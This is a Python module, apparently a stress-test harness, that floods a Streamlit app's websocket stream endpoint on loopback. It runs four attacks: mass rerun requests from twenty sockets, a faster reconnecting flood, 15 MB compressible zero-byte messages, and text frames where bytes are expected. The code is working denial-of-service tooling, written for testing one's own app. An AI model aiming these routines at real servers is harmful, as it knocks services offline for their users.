"""What one laptop can send to the app, on loopback, until a moment of the monotonic clock."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from random import Random

from streamlit.proto.BackMsg_pb2 import BackMsg
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import WebSocketException
from websockets.typing import Subprotocol

REFUSED = (OSError, WebSocketException, TimeoutError)
"""What the server may do to who attacks it."""
CHARACTERS = "我你他爱看书猫水家学校朋友老师今天昨天"


def socket(address: str) -> connect:
    stream = f"{address.replace('http', 'ws', 1)}/_stcore/stream"
    return connect(stream, subprotocols=[Subprotocol("streamlit")], max_size=None, proxy=None)


def rerun(random: Random, page: str = "") -> bytes:
    """A request for the whole page with a sentence that nobody has typed."""
    message = BackMsg()
    message.rerun_script.query_string = f"q={''.join(random.choices(CHARACTERS, k=12))}"
    message.rerun_script.page_name = page
    return message.SerializeToString()


async def reruns(address: str, random: Random, end: float) -> None:
    """Twenty sockets ask for new sentences, as often as is permitted."""
    await asyncio.gather(*(_ask(address, random, 10, end) for _ in range(20)))


async def flood_of_reruns(address: str, random: Random, end: float) -> None:
    """Twenty sockets ask five times as often, come again whenever they are closed, and leave what they asked for."""
    await asyncio.gather(*(_ask(address, random, 50, end) for _ in range(20)))


async def _ask(address: str, random: Random, rate: float, end: float) -> None:
    while time.monotonic() < end:
        with suppress(*REFUSED):
            async with socket(address) as connection:
                await _while_read(connection, lambda: _send(connection, lambda: rerun(random), rate, end))
        await asyncio.sleep(0.1)


async def _while_read(connection: ClientConnection, send: Callable[[], Awaitable[None]]) -> None:
    async def read() -> None:
        async for _ in connection:
            pass

    reading = asyncio.create_task(read())
    try:
        await send()
    finally:
        reading.cancel()


async def _send(connection: ClientConnection, draw: Callable[[], bytes], rate: float, end: float) -> None:
    while time.monotonic() < end:
        await connection.send(draw())
        await asyncio.sleep(1 / rate)


async def bombs(address: str, random: Random, end: float) -> None:
    """Messages of 15 MB of zeros, which are some kilobytes on the way."""
    zeros = bytes(15_000_000)
    while time.monotonic() < end:
        with suppress(*REFUSED):
            async with socket(address) as connection:
                await connection.send(zeros)
                await asyncio.wait_for(connection.wait_closed(), 5)
        await asyncio.sleep(0.05 + random.random() / 20)


async def frames_of_text(address: str, random: Random, end: float) -> None:
    """Text where bytes are expected."""
    while time.monotonic() < end:
        with suppress(*REFUSED):
            async with socket(address) as connection:
                await connection.send("".join(random.choices(CHARACTERS, k=100)))
                await asyncio.wait_for(connection.wait_closed(), 5)
        await asyncio.sleep(0.02)


ATTACKS = (reruns, flood_of_reruns, bombs, frames_of_text)
